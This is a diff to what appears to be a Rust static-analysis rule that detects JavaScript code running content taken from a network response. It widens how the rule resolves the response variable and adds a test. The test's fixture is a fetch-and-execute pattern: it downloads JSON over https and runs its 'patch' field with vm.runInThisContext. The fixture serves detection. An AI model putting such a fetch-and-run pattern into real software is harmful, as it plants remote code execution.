@@ -54,14 +54,17 @@ fn is_eval(path: &str) -> bool {
 /// accumulates `data` chunks (`s += d`) or is assigned from `.text()`, `.json()`,
 /// `JSON.parse(…)` or a `.data` field.
 fn from_response(text: &str, call: &crate::js::Call, arg: &crate::js::Arg) -> bool {
-    let Some(root) = arg
-        .path
-        .as_deref()
-        .and_then(|p| p.split('.').next())
-        .or_else(|| first_arg_name(text, call))
-    else {
-        return false;
-    };
+    // The resolved path's root (`j` in `j.patch`) and the name written in the source (the path
+    // of `j = JSON.parse(s)` resolves to `JSON.parse.patch`).
+    let resolved = arg.path.as_deref().and_then(|p| p.split('.').next());
+    let written = first_arg_name(text, call);
+    [resolved, written]
+        .into_iter()
+        .flatten()
+        .any(|root| holds_response(text, root))
+}
+
+fn holds_response(text: &str, root: &str) -> bool {
     if root.is_empty()
         || !root
             .chars()
@@ -238,6 +241,17 @@ mod remote_tests {
         let src = "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => cb(JSON.parse(s))) }); const t = (src) => new Function('o', src);";
         let hits = run(&super::RULE, "index.js", src);
         assert!(hits.iter().all(|h| h.severity < Severity::High), "{hits:?}");
+    }
+
+    #[test]
+    fn vm_run_of_a_parsed_response_field_is_high() {
+        let src = "require('https').get(u, (r) => { let s = ''; r.on('data', (d) => (s += d)); r.on('end', () => { const j = JSON.parse(s); if (j.patch) require('vm').runInThisContext(j.patch)(require) }) })";
+        let hits = run(&super::RULE, "bin/cli.js", src);
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == Severity::High && h.message.contains("network")),
+            "{hits:?}"
+        );
     }
 
     #[test]
